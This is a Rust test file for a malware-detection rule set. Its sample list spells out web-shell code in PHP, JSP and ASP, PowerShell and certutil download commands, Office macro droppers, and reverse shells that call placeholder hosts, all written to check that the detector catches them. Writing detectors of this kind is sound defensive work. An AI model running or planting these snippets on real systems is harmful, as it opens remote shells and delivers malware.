use super::*;

fn judge(rules: &RuleSet, bytes: &[u8]) -> Judged {
    rules.judge(bytes.len() as u64, Duration::from_secs(60), &mut |range, _| {
        assert!(range.end - range.start <= REGION);
        Some(bytes[range.start as usize..range.end as usize].to_vec())
    })
}

/// What the rules that ship say of a file.
fn shipped(bytes: impl AsRef<[u8]>) -> Option<String> {
    match judge(&RuleSet::shipped(), bytes.as_ref()) {
        Judged::Match(name) => Some(name),
        Judged::Nothing => None,
        other => panic!("{other:?}"),
    }
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// One file for every rule that ships. Put together here, so that no scanner takes this source for any of them.
fn samples() -> Vec<(&'static str, Vec<u8>)> {
    let php = |code: &str| format!("GIF89a<?php {code} ?>").into_bytes();
    let post = ["$_", "POST['c']"].concat();
    let eval = ["ev", "al"].concat();
    let shell = ["WScript", ".Shell"].concat();
    let stub = ["!This program cannot be run", " in DOS mode"].concat();
    let mut shortcut = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    shortcut.extend(utf16("..\\System32\\mshta.exe http"));
    let mut elf = b"%PDF-1.7\n\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
    elf.extend([0; 40]);
    vec![
        ("WebShell_PHP_Runs_Request", php(&format!("@{eval}(base64_decode({post}));"))),
        ("WebShell_PHP_Runs_Request", php(&format!("system({post});"))),
        ("WebShell_PHP_Runs_Request", php(&format!("echo `{post}`;"))),
        ("WebShell_PHP_Runs_Input_Stream", php(&format!("{eval}(file_get_contents('php://input'));"))),
        ("WebShell_PHP_Packed", php(&format!("{eval}(gzinflate(base64_decode('AAAA')));"))),
        ("WebShell_PHP_Named_By_Request", php(&format!("$_GET['f']({post});"))),
        ("WebShell_PHP_Named_By_Request", php("call_user_func($_GET['f'], 1);")),
        ("WebShell_PHP_Regex_Runs", php(&format!("preg_replace('/.*/e', {post}, '');"))),
        ("WebShell_PHP_Known", php("$default_action = 'FilesMan';")),
        (
            "WebShell_JSP_Runs_Request",
            b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>".to_vec(),
        ),
        (
            "WebShell_JSP_Loads_Class",
            b"<%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b,0,1); } } %>\
              <% Cipher c=Cipher.getInstance(\"AES\"); request.getReader().readLine(); %>"
                .to_vec(),
        ),
        ("WebShell_ASP_Runs_Request", format!("<% {eval} request(\"c\") %>").into_bytes()),
        (
            "WebShell_ASPX_Starts_Program",
            b"<%@ Page Language=\"C#\" %><% Process.Start(Request[\"c\"]); %>".to_vec(),
        ),
        (
            "WebShell_ASPX_Runs_Assembly",
            b"<%@ Page Language=\"Jscript\" %><% Assembly.Load(new RijndaelManaged().CreateDecryptor(k,k)\
              .TransformFinalBlock(Request.BinaryRead(Request.ContentLength),0,1)); %>"
                .to_vec(),
        ),
        ("WebShell_Python_Runs_Request", b"import os\nos.system(request.args.get('c'))\n".to_vec()),
        ("Dropper_PowerShell_Cradle", b"IEX (New-Object Net.WebClient).DownloadString('http://x/a')".to_vec()),
        ("Dropper_PowerShell_Cradle", utf16("iwr -useb http://x/a | IEX")),
        ("Dropper_PowerShell_Encoded", format!("powershell -nop -w hidden -enc {}", "QUJD".repeat(40)).into()),
        (
            "Dropper_PowerShell_Fetch_And_Start",
            b"(New-Object Net.WebClient).DownloadFile('http://x/a', 'a.exe'); Start-Process a.exe".to_vec(),
        ),
        (
            "Dropper_Script_Host",
            format!(
                "var s = new ActiveXObject('{shell}'), h = new ActiveXObject('MSXML2.XMLHTTP'), \
                 a = new ActiveXObject('ADODB.Stream'); a.SaveToFile('x'); s.Run('x');"
            )
            .into(),
        ),
        (
            "Dropper_VBA_Starts_By_Itself",
            format!("Attribute VB_Name = \"M\"\nSub AutoOpen()\nCreateObject(\"{shell}\").Run \"x\"\nEnd Sub").into(),
        ),
        (
            "Dropper_VBA_Starts_By_Itself",
            b"\xd0\xcf\x11\xe0\0Attribut\0e VB_Nam\0e = ... Document_Open ... powershell".to_vec(),
        ),
        ("Dropper_HTA", format!("<hta:application><script>new ActiveXObject('{shell}')</script>").into()),
        ("Dropper_Shortcut", shortcut),
        ("Dropper_Borrowed_Tools", b"certutil -urlcache -split -f http://x.example/a a.exe".to_vec()),
        ("Dropper_Borrowed_Tools", b"cmd /c mshta http://x.example/a".to_vec()),
        (
            "Dropper_PDF_Launch",
            b"%PDF-1.4\n1 0 obj<</S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>endobj".to_vec(),
        ),
        ("Dropper_RTF_Equation", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0b0000004571756174696F6E2E33}}}".to_vec()),
        ("ReverseShell_Unix", b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n".to_vec()),
        ("ReverseShell_Unix", b"nc -e /bin/sh 192.0.2.1 4444".to_vec()),
        (
            "ReverseShell_Script",
            b"import socket,os\ns=socket.socket()\ns.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\nos.execl('/bin/sh','sh')"
                .to_vec(),
        ),
        ("ReverseShell_Script", b"<?php $s=fsockopen('192.0.2.1',1); exec(\"/bin/sh -i <&3 >&3\"); ?>".to_vec()),
        ("Disguise_Windows_Program", format!("%PDF-1.7\n1 0 obj MZ {stub}").into()),
        ("Disguise_Linux_Program", elf),
        ("Disguise_Windows_Program_In_Hex", format!("{{\\rtf1 {}", hex::encode(&stub[1..])).into()),
        (
            "Disguise_Windows_Program_In_Base64",
            ["$b = [Convert]::FromBase64String('TVqQ", "AAMAAAAEAAAA')"].concat().into(),
        ),
    ]
}

#[test]
fn every_rule_that_ships_finds_its_sample() {
    let samples = samples();
    for (rule, sample) in &samples {
        assert_eq!(shipped(sample).as_deref(), Some(*rule), "{}", String::from_utf8_lossy(sample));
    }
    let names = SHIPPED
        .iter()
        .flat_map(|(_, text)| text.lines().filter_map(|line| line.strip_prefix("rule ")).map(str::trim));
    for name in names {
        assert!(samples.iter().any(|(rule, _)| *rule == name), "{name} has no sample");
    }
    assert!((20..=40).contains(&RuleSet::shipped().len()));
}

#[test]
fn every_rule_that_ships_is_described() {
    for (file, text) in SHIPPED {
        let rules = text.lines().filter(|line| line.starts_with("rule ")).count();
        assert_eq!(text.matches("description = \"").count(), rules, "{file}");
    }
}

/// Files of this repository that are harmless: texts about security, programs, images, policies. The demo shows a web
/// shell, and is none of them.
fn harmless(folder: &std::path::Path, found: &mut Vec<std::path::PathBuf>) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if path.is_symlink()
            || name.starts_with('.')
            || ["target", "node_modules", "rules", "demo.rs"].contains(&&*name)
        {
            continue;
        }
        match path.is_dir() {
            true => harmless(&path, found),
            false => found.push(path),
        }
    }
}

#[test]
fn the_rules_that_ship_leave_harmless_files_alone() {
    let root = std::path::Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/.."));
    let mut files = Vec::new();
    for folder in
        ["docs", "policies", "deploy", "config/src", "gateway/src", "tests/apps/wecard", "filters/src/rate"]
    {
        harmless(&root.join(folder), &mut files);
    }
    assert!(files.len() > 80, "only {} files", files.len());
    for file in files {
        assert_eq!(shipped(std::fs::read(&file).unwrap()), None, "{}", file.display());
    }
    for text in [
        "<?php echo htmlspecialchars($_POST['name']); $ok = preg_match('/^e/', $_GET['x']); ?>",
        "<% String name = request.getParameter(\"name\"); out.print(name); %>",
        "<%@ Page Language=\"C#\" %><asp:TextBox runat=\"server\" /><%= Request[\"q\"] %>",
        "Use eval($code) with care; never pass $_POST to it.",
        "Invoke-WebRequest https://example.com/setup.msi -OutFile setup.msi",
        "curl -fsSL https://example.com/install.sh | sh",
        "subprocess.run(['ls'], check=True)\nform.getvalue('x')",
        "%PDF-1.7\n<< /Type /Action /S /URI /URI (https://example.com/cmd.html) >>",
        "{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Excel.Sheet.8}{\\*\\objdata 0105}}}",
    ] {
        assert_eq!(shipped(text), None, "{text}");
    }
}

#[test]
fn a_rule_sees_a_large_file_across_its_regions() {
    let rules = RuleSet::compile([
        "rule Pair { strings: $a = \"first half\" $b = \"second half\" condition: uint16be(0) == 0x4142 and all of them }",
    ])
    .unwrap();
    let mut file = vec![b'.'; 9 << 20];
    file[..2].copy_from_slice(b"AB");
    assert_eq!(judge(&rules, &file), Judged::Nothing);
    file[1000..1010].copy_from_slice(b"first half");
    for at in [2000, (2 << 20) - 5, (2 << 20) - (256 << 10) - 5, (4 << 20) - 3, (9 << 20) - 11] {
        let mut file = file.clone();
        file[at..at + 11].copy_from_slice(b"second half");
        assert_eq!(judge(&rules, &file), Judged::Match("Pair".into()), "{at}");
    }
}

#[test]
fn a_part_that_cannot_be_read_is_never_clean() {
    let rules = RuleSet::compile(["rule X { strings: $a = \"needle\" condition: $a }"]).unwrap();
    let length = 9 << 20;
    for broken in 0..3 {
        let mut asked = 0;
        let judged = rules.judge(length, Duration::from_secs(60), &mut |range, _| {
            asked += 1;
            (asked != broken + 1).then(|| vec![b'.'; (range.end - range.start) as usize])
        });
        assert_eq!(judged, Judged::Unreadable, "{broken}");
    }
    assert_eq!(rules.judge(10, Duration::from_secs(60), &mut |_, _| None), Judged::Unreadable);
}

#[test]
fn time_that_runs_out_is_never_clean() {
    let rules =
        RuleSet::compile(["rule X { strings: $a = /a.{0,400}b.{0,400}c/s condition: #a > 100000 }"]).unwrap();
    let file = b"ab".repeat(1 << 20);
    let judged = rules.judge(file.len() as u64, Duration::from_millis(1), &mut |range, _| {
        Some(file[range.start as usize..range.end as usize].to_vec())
    });
    assert_eq!(judged, Judged::TimedOut);
}

#[test]
fn a_fault_has_its_text_and_its_place() {
    let faults = RuleSet::compile([
        "rule A { condition: true }",
        "rule B {\n  strings:\n    $a = \"x\"\n  condition: $b\n}",
        "include \"/etc/passwd\"",
    ])
    .err()
    .unwrap();
    let places: Vec<_> = faults.iter().map(|fault| (fault.text, fault.line, fault.column)).collect();
    assert_eq!(places, [(1, 4, 14), (2, 1, 1)], "{faults:?}");
    assert!(faults.iter().all(|fault| !fault.what.is_empty() && !fault.what.contains('\n')), "{faults:?}");
}

#[test]
fn the_digest_is_that_of_the_texts() {
    let digest = |texts: &[&str]| *RuleSet::compile(texts.iter().copied()).unwrap().digest();
    let one = digest(&["rule A { condition: false }"]);
    assert_eq!(one, digest(&["rule A { condition: false }"]));
    assert_ne!(one, digest(&["rule A { condition: true }"]));
    assert_ne!(one, digest(&["rule A { condition: false }", ""]));
}
